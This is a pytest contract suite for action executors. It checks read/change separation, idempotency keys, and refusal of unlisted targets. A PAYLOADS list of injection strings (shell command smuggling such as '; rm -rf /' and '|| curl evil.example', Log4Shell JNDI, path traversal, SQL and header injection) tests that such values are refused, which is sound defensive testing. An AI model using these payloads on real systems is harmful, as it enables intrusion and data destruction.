"""What every executor must keep to, also the fake one that other tests trust.

A new executor brings a `Case`: how to make it, an action of each kind, and what its target has
seen. An executor that refuses everything has no actions to try.
"""

import asyncio
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import AbstractAsyncContextManager, asynccontextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any, get_args

import pytest
from pydantic import TypeAdapter, ValidationError

from executors.executor import Arguments, Executor
from executors.http import Http
from executors.http_targets import HttpSettings
from executors.off import Off, OffSettings
from executors.registry import AnyExecutor, make, targets
from schemas.errors import Denied, Rejected
from tests.executors.fake_target import Dials
from tests.executors.http_target import TOKEN, serving

NOW = datetime(2026, 3, 4, 10, 0, tzinfo=UTC)
KEY, OTHER = "a" * 32, "b" * 32


@dataclass
class Case:
    """An executor, what to ask of it, and what came of that."""

    executor: Executor
    look: Arguments
    change: Arguments
    undo: Arguments
    refused: Arguments
    contacts: Callable[[], int] = lambda: 0
    effects: Callable[[], list[Any]] = field(default=list)


@asynccontextmanager
async def dials() -> AsyncIterator[Case]:
    fake = Dials()
    yield Case(
        executor=fake,
        look={"target": "dial1"},
        change={"target": "dial1", "value": 10},
        undo={"target": "dial1", "value": 1},
        refused={"target": "other", "value": 10},
        contacts=lambda: len(fake.effects) + len(fake.reads),
        effects=lambda: list(fake.effects),
    )


@asynccontextmanager
async def http() -> AsyncIterator[Case]:
    async with serving() as server:
        listed = {"base_url": server.url, "token": TOKEN, "operations_path": "/operations/{key}"}
        made = make(HttpSettings.model_validate({"targets": {"shop": listed}}), lambda: NOW)
        call: Arguments = {"target": "shop", "path": "/dials/dial1"}
        yield Case(
            executor=made,
            look={**call, "method": "GET"},
            change={**call, "method": "POST", "json": {"value": 10}},
            undo={**call, "method": "POST", "json": {"value": 1}},
            refused={**call, "method": "POST", "target": "other"},
            contacts=lambda: len(server.seen),
            effects=lambda: list(server.effects),
        )
        await made.close()


CASES = {"dials": dials, "http": http}
Open = Callable[[], AbstractAsyncContextManager[Case]]


@pytest.fixture(params=list(CASES.values()), ids=list(CASES))
def opened(request: pytest.FixtureRequest) -> Open:
    return request.param  # type: ignore[no-any-return]


def tried(opened: Open, use: Callable[[Case], Awaitable[None]]) -> None:
    async def run() -> None:
        async with opened() as case:
            await use(case)

    asyncio.run(run())


def test_a_look_changes_nothing(opened: Open) -> None:
    async def use(case: Case) -> None:
        answer = await case.executor.read(case.look, timeout_s=30)
        assert answer.value == {"value": 1}
        assert case.effects() == []

    tried(opened, use)


def test_a_change_has_its_effect_and_its_undo_takes_it_back(opened: Open) -> None:
    async def use(case: Case) -> None:
        await case.executor.change(case.change, key=KEY, timeout_s=30)
        assert (await case.executor.read(case.look, timeout_s=30)).value == {"value": 10}
        await case.executor.change(case.undo, key=OTHER, timeout_s=30)
        assert (await case.executor.read(case.look, timeout_s=30)).value == {"value": 1}

    tried(opened, use)


def test_a_key_stands_for_one_change_and_can_be_asked_about(opened: Open) -> None:
    async def use(case: Case) -> None:
        assert case.executor.asks(case.change)
        assert await case.executor.applied(case.change, key=KEY, timeout_s=30) is None
        await asyncio.gather(
            *(case.executor.change(case.change, key=KEY, timeout_s=30) for _ in range(5))
        )
        assert len(case.effects()) == 1
        assert await case.executor.applied(case.change, key=KEY, timeout_s=30) is not None
        assert await case.executor.applied(case.change, key=OTHER, timeout_s=30) is None

    tried(opened, use)


def test_what_is_not_listed_is_refused_before_anything_is_sent(opened: Open) -> None:
    async def use(case: Case) -> None:
        with pytest.raises(Denied):
            case.executor.check(case.refused, changes=True)
        with pytest.raises(Denied):
            await case.executor.change(case.refused, key=KEY, timeout_s=30)
        assert case.contacts() == 0

    tried(opened, use)


def test_a_change_cannot_be_passed_off_as_a_look(opened: Open) -> None:
    async def use(case: Case) -> None:
        with pytest.raises((Denied, Rejected)):
            case.executor.check(case.change, changes=False)
        with pytest.raises((Denied, Rejected)):
            await case.executor.read(case.change, timeout_s=30)
        assert case.contacts() == 0

    tried(opened, use)


def test_a_look_cannot_be_passed_off_as_a_change(opened: Open) -> None:
    async def use(case: Case) -> None:
        with pytest.raises((Denied, Rejected)):
            await case.executor.change(case.look, key=KEY, timeout_s=30)
        assert case.contacts() == 0

    tried(opened, use)


PAYLOADS = [
    "; rm -rf /", "$(id)", "`id`", "|| curl evil.example", "{{7*7}}", "${jndi:ldap://evil}", "../../etc/passwd",
    "' OR 1=1 --", "\r\nX-Evil: 1", "%0d%0aX-Evil:1", "\x00", "//evil.example", "http://evil.example/",
    "\u202eelif", "__import__('os').system('id')", "a" * 5_000, "{{before.value}}", "<script>",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_payload_in_any_text_argument_reaches_nothing_but_data(
    opened: Open, payload: str
) -> None:
    """T22: in place of each text that names something, it is refused before anything is sent."""

    async def use(case: Case) -> None:
        for name in (key for key, value in case.change.items() if isinstance(value, str)):
            for spoilt in (payload, f"{case.change[name]}{payload}"):
                arguments = {**case.change, name: spoilt}
                with pytest.raises((Denied, Rejected)):
                    await case.executor.change(arguments, key=KEY, timeout_s=30)
        assert case.contacts() == 0

    tried(opened, use)


def test_off_refuses_whatever_it_is_asked() -> None:
    async def run() -> None:
        off = make(OffSettings(), lambda: NOW)
        asked: list[Arguments] = [{}, {"target": "shop"}]
        for arguments in asked:
            with pytest.raises(Denied, match="the executor is off"):
                off.check(arguments, changes=False)
            with pytest.raises(Denied):
                await off.read(arguments, timeout_s=1)
            with pytest.raises(Denied):
                await off.change(arguments, key=KEY, timeout_s=1)
            assert not off.asks(arguments)
            assert not off.repeatable(arguments)
            with pytest.raises(Denied):
                await off.applied(arguments, key=KEY, timeout_s=1)
        await off.close()

    asyncio.run(run())


def test_every_backend_of_the_registry_is_made_and_tried_here() -> None:
    union = get_args(get_args(AnyExecutor)[0])
    backends = {settings.model_fields["backend"].default: settings for settings in union}
    assert set(backends) == {"off", "http"}
    assert isinstance(make(OffSettings(), lambda: NOW), Off)
    read: TypeAdapter[Any] = TypeAdapter(AnyExecutor)
    for backend, settings in backends.items():
        assert isinstance(read.validate_python({"backend": backend}), settings)

    async def run() -> None:
        async with http() as case:
            assert isinstance(case.executor, Http)

    asyncio.run(run())


def test_an_unknown_backend_is_answered_with_the_choices() -> None:
    with pytest.raises(ValidationError, match="'off', 'http'"):
        TypeAdapter[Any](AnyExecutor).validate_python({"backend": "telnet"})


def test_a_backend_that_is_not_configured_is_known_and_has_no_targets() -> None:
    listed = HttpSettings.model_validate({"targets": {"shop": {"base_url": "http://127.0.0.1:1"}}})
    assert targets(listed) == {"http": {"shop"}}
    assert targets(OffSettings()) == {"http": frozenset()}
